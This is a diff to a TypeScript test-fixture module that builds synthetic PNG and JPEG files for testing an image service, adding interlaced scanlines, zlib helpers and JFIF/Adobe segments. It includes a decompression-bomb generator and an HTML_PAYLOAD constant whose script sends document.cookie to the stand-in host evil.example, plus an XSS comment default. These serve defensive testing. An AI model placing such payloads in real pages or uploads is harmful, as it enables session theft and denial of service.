@@ -4,8 +4,8 @@
  * stored (uncompressed) zlib blocks with correct CRCs and Adler-32, the lossless WebP a one-colour VP8L bitstream, so
  * a decoder shows each of them. Only the "header" fixtures (bombs, odd sizes) carry less pixel data than they declare.
  *
- * The CRC-32 here is written independently of the service's, so a test that checks CRCs does not grade the service
- * with its own code.
+ * The CRC-32 and the PNG scanline layout here are written independently of the service's, so a test that checks them
+ * does not grade the service with its own code.
  */
 
 export type ByteSource = Uint8Array | readonly number[] | string;
@@ -88,8 +88,15 @@ export interface PngOptions {
   headerOnly?: boolean;
 }
 
-export function pngHeader(width: number, height: number): Uint8Array {
-  return pngChunk('IHDR', [...be32(width), ...be32(height), 8, 0, 0, 0, 0]);
+export interface PngFormat {
+  /** 0 grey, 2 RGB, 3 palette, 4 grey and alpha, 6 RGBA. */
+  colourType?: number;
+  bitDepth?: number;
+  interlaced?: boolean;
+}
+
+export function pngHeader(width: number, height: number, { colourType = 0, bitDepth = 8, interlaced = false }: PngFormat = {}): Uint8Array {
+  return pngChunk('IHDR', [...be32(width), ...be32(height), bitDepth, colourType, 0, 0, interlaced ? 1 : 0]);
 }
 
 /** A mid-grey 8-bit greyscale PNG: each row is filter byte 0 and then one byte a pixel. */
@@ -98,6 +105,129 @@ export function png({ width = 320, height = 240, before = [], after = [], header
   for (let row = 0; row < rows.length; row += width + 1) rows[row] = 0;
   return concatBytes(PNG_SIGNATURE, pngHeader(width, height), ...before, pngChunk('IDAT', zlibStored(rows)), ...after, pngChunk('IEND'));
 }
+
+/** Which of Adam7's seven passes (1–7) each pixel of an 8×8 tile belongs to, as the PNG specification draws it. */
+const ADAM7_TILE = [
+  [1, 6, 4, 6, 2, 6, 4, 6],
+  [7, 7, 7, 7, 7, 7, 7, 7],
+  [5, 6, 5, 6, 5, 6, 5, 6],
+  [7, 7, 7, 7, 7, 7, 7, 7],
+  [3, 6, 4, 6, 3, 6, 4, 6],
+  [7, 7, 7, 7, 7, 7, 7, 7],
+  [5, 6, 5, 6, 5, 6, 5, 6],
+  [7, 7, 7, 7, 7, 7, 7, 7],
+];
+
+const PNG_CHANNELS: Record<number, number> = { 0: 1, 2: 3, 3: 1, 4: 2, 6: 4 };
+
+/**
+ * The pixel count of every scanline the image data holds, in order: one line per row, or for Adam7 the lines of each
+ * pass, counted by visiting the pixels of the tile rather than by the specification's formula.
+ */
+function scanlineWidths(width: number, height: number, interlaced: boolean): number[] {
+  if (!interlaced) return new Array<number>(height).fill(width);
+  const widths: number[] = [];
+  for (let pass = 1; pass <= 7; pass++) {
+    for (let y = 0; y < height; y++) {
+      let pixels = 0;
+      for (let x = 0; x < Math.min(width, 8); x++) {
+        if (ADAM7_TILE[y % 8]?.[x] === pass) pixels += Math.floor((width - 1 - x) / 8) + 1;
+      }
+      if (pixels > 0) widths.push(pixels);
+    }
+  }
+  return widths;
+}
+
+/**
+ * A PNG's image data before compression: each scanline a filter byte and its pixels. Filter 0 (none) everywhere unless
+ * told, pixels a mid value (0x80, palette index 0 for palette images); `pixel` fills them with a pattern instead.
+ */
+export function pngScanlines(
+  width: number,
+  height: number,
+  { colourType = 0, bitDepth = 8, interlaced = false }: PngFormat = {},
+  { filter = 0, pixel = () => (colourType === 3 ? 0 : 0x80) }: { filter?: number; pixel?: (at: number) => number } = {},
+): Uint8Array {
+  const bitsPerPixel = (PNG_CHANNELS[colourType] ?? 1) * bitDepth;
+  const lines = scanlineWidths(width, height, interlaced).map((pixels) => Math.ceil((pixels * bitsPerPixel) / 8));
+  const out = new Uint8Array(lines.reduce((total, bytes) => total + 1 + bytes, 0));
+  let at = 0;
+  for (const bytes of lines) {
+    out[at++] = filter;
+    for (let k = 0; k < bytes; k++, at++) out[at] = pixel(at);
+  }
+  return out;
+}
+
+/** zlib (RFC 1950) as the platform's zlib writes it, with Huffman coding: what real encoders put in IDAT. */
+export async function deflate(data: Uint8Array): Promise<Uint8Array> {
+  const stream = new CompressionStream('deflate');
+  const writer = stream.writable.getWriter();
+  const compressed = new Response(stream.readable).arrayBuffer();
+  for (let start = 0; start < data.length; start += 1 << 20) await writer.write(data.subarray(start, start + (1 << 20)));
+  await writer.close();
+  return new Uint8Array(await compressed);
+}
+
+/** zlib of `size` zero bytes, about a thousandth of that size: a decompression bomb. */
+export async function zlibOfZeros(size: number): Promise<Uint8Array> {
+  const stream = new CompressionStream('deflate');
+  const writer = stream.writable.getWriter();
+  const compressed = new Response(stream.readable).arrayBuffer();
+  const block = new Uint8Array(1 << 20);
+  for (let done = 0; done < size; done += block.length) await writer.write(block.subarray(0, Math.min(block.length, size - done)));
+  await writer.close();
+  return new Uint8Array(await compressed);
+}
+
+export async function inflate(data: Uint8Array): Promise<Uint8Array> {
+  const stream = new Blob([data]).stream().pipeThrough(new DecompressionStream('deflate'));
+  return new Uint8Array(await new Response(stream).arrayBuffer());
+}
+
+/**
+ * A PNG of any colour type, depth and interlacing whose IDAT holds `scanlines` (by default the right number of them)
+ * compressed by zlib, split over `idatChunks` chunks; a palette image gets a two-colour PLTE.
+ */
+export async function pngDeflated({
+  width = 320,
+  height = 240,
+  format = {},
+  scanlines = pngScanlines(width, height, format),
+  before = [],
+  after = [],
+  idatChunks = 1,
+}: {
+  width?: number;
+  height?: number;
+  format?: PngFormat;
+  scanlines?: Uint8Array;
+  before?: Uint8Array[];
+  after?: Uint8Array[];
+  idatChunks?: number;
+} = {}): Promise<Uint8Array> {
+  const zlib = await deflate(scanlines);
+  const size = Math.ceil(zlib.length / idatChunks);
+  const idat = Array.from({ length: idatChunks }, (_, k) => pngChunk('IDAT', zlib.subarray(k * size, (k + 1) * size)));
+  const palette = format.colourType === 3 ? [pngChunk('PLTE', [0x80, 0x80, 0x80, 0xff, 0xff, 0xff])] : [];
+  return concatBytes(PNG_SIGNATURE, pngHeader(width, height, format), ...palette, ...before, ...idat, ...after, pngChunk('IEND'));
+}
+
+/** The image data of a PNG: its IDAT chunks' contents, joined. */
+export function pngImageData(file: Uint8Array): Uint8Array {
+  const view = new DataView(file.buffer, file.byteOffset, file.byteLength);
+  const parts: Uint8Array[] = [];
+  for (let pos = 8; pos + 12 <= file.length;) {
+    const length = view.getUint32(pos);
+    if (String.fromCharCode(...file.subarray(pos + 4, pos + 8)) === 'IDAT') parts.push(file.subarray(pos + 8, pos + 8 + length));
+    pos += 12 + length;
+  }
+  return concatBytes(...parts);
+}
+
+/** cHRM's eight values for sRGB's white point and primaries, each ×100,000. */
+export const CHRM_SRGB = [31270, 32900, 64000, 33000, 30000, 60000, 15000, 6000].flatMap(be32);
 
 /** Every chunk of a PNG as [type, CRC stored, CRC computed]. */
 export function pngChunks(file: Uint8Array): { type: string; storedCrc: number; computedCrc: number }[] {
@@ -122,6 +252,8 @@ export function jpegSegment(marker: number, payload: ByteSource): Uint8Array {
 export interface JpegOptions {
   width?: number;
   height?: number;
+  /** The APP0 segment after SOI (a plain JFIF by default); null for none. */
+  app0?: Uint8Array | null;
   /** Segments right after APP0 (metadata, ICC, MPF…). */
   segments?: Uint8Array[];
   /** A two-scan progressive JPEG instead of a baseline one. */
@@ -147,8 +279,24 @@ function zeroBits(bits: number): number[] {
   return bytes;
 }
 
-/** JFIF 1.01, no units, 1:1 pixel aspect, no thumbnail. */
-const JFIF = jpegSegment(0xe0, concatBytes('JFIF\0', [1, 1, 0, 0, 1, 0, 1, 0, 0]));
+/**
+ * A JFIF APP0: version 1.01, density units and values as given (none, 1:1 by default), and a thumbnail of
+ * `thumbnail` × 1 pixels. `tail` is bytes after all that, which the segment's length covers and no field describes.
+ */
+export function jfifSegment({
+  units = 0,
+  density = [1, 1],
+  thumbnail = 0,
+  tail = '',
+}: { units?: number; density?: [number, number]; thumbnail?: number; tail?: ByteSource } = {}): Uint8Array {
+  const pixels = new Uint8Array(3 * thumbnail).fill(0x80);
+  return jpegSegment(
+    0xe0,
+    concatBytes('JFIF\0', [1, 1, units, ...be16(density[0]), ...be16(density[1]), thumbnail, thumbnail ? 1 : 0], pixels, tail),
+  );
+}
+
+const JFIF = jfifSegment();
 const DQT = jpegSegment(0xdb, [0, ...new Array<number>(64).fill(1)]);
 /** One code of length 1 for symbol 0: in the DC table, category 0; in the AC table, end of block. */
 const dht = (tableClass: number) => jpegSegment(0xc4, [tableClass << 4, 1, ...new Array<number>(15).fill(0), 0]);
@@ -157,6 +305,7 @@ const dht = (tableClass: number) => jpegSegment(0xc4, [tableClass << 4, 1, ...ne
 export function jpeg({
   width = 320,
   height = 240,
+  app0 = JFIF,
   segments = [],
   progressive = false,
   betweenScans = [],
@@ -168,7 +317,7 @@ export function jpeg({
   const blocks = headerOnly ? 8 : Math.ceil(width / 8) * Math.ceil(height / 8);
   const sof = jpegSegment(frame, [precision, ...be16(height), ...be16(width), 1, 1, 0x11, 0]);
   const sos = (start: number, end: number) => jpegSegment(0xda, [1, 1, 0x00, start, end, 0]);
-  const head = [[0xff, 0xd8], JFIF, ...segments, DQT, sof, dht(0)];
+  const head = [[0xff, 0xd8], ...(app0 ? [app0] : []), ...segments, DQT, sof, dht(0)];
   if (progressive) {
     // First scan: the DC of every block (1 bit each); second: all AC coefficients as one end-of-band per block.
     return concatBytes(...head, sos(0, 0), zeroBits(blocks), dht(1), ...betweenScans, sos(1, 63), zeroBits(blocks), [0xff, 0xd9]);
@@ -185,6 +334,9 @@ export function jpeg({
   const dri = restartInterval ? [jpegSegment(0xdd, be16(restartInterval))] : [];
   return concatBytes(...head, dht(1), ...dri, sos(0, 63), ...scan, [0xff, 0xd9]);
 }
+
+/** What an attacker hides in an image, hoping it is one day served as a page from the media domain. */
+export const HTML_PAYLOAD = '<html><body><script>fetch("//evil.example/?c="+document.cookie)</script></body></html>';
 
 /** The GPS coordinates the EXIF fixture carries, to look for after stripping. */
 export const GPS_TEXT = 'GPS 12.9716 N 77.5946 E WGS-84';
@@ -222,8 +374,10 @@ export const xmpSegment = () => jpegSegment(0xe1, concatBytes('http://ns.adobe.c
 export const iptcSegment = () =>
   jpegSegment(0xed, concatBytes('Photoshop 3.0\0', '8BIM', [0x04, 0x04, 0, 0], be32(12), [0x1c, 0x02, 0x5a], be16(9), 'Bengaluru'));
 export const commentSegment = (text = '<script>alert(document.cookie)</script>') => jpegSegment(0xfe, text);
-export const iccSegment = () => jpegSegment(0xe2, concatBytes('ICC_PROFILE\0', [1, 1], 'icc-profile-bytes'));
-export const adobeSegment = () => jpegSegment(0xee, concatBytes('Adobe', [0, 100, 0, 0, 0, 0, 1]));
+export const iccSegment = (profile: ByteSource = 'icc-profile-bytes') => jpegSegment(0xe2, concatBytes('ICC_PROFILE\0', [1, 1], profile));
+/** Adobe's APP14: version 100, no flags, the colour transform (1: YCbCr), and whatever `tail` follows. */
+export const adobeSegment = ({ transform = 1, tail = '' }: { transform?: number; tail?: ByteSource } = {}) =>
+  jpegSegment(0xee, concatBytes('Adobe', [0, 100, 0, 0, 0, 0, transform], tail));
 export const mpfSegment = () => jpegSegment(0xe2, concatBytes('MPF\0', 'MM', be16(42), be32(8), be16(0)));
 export const orientationOnlyExif = (orientation: number) =>
   jpegSegment(
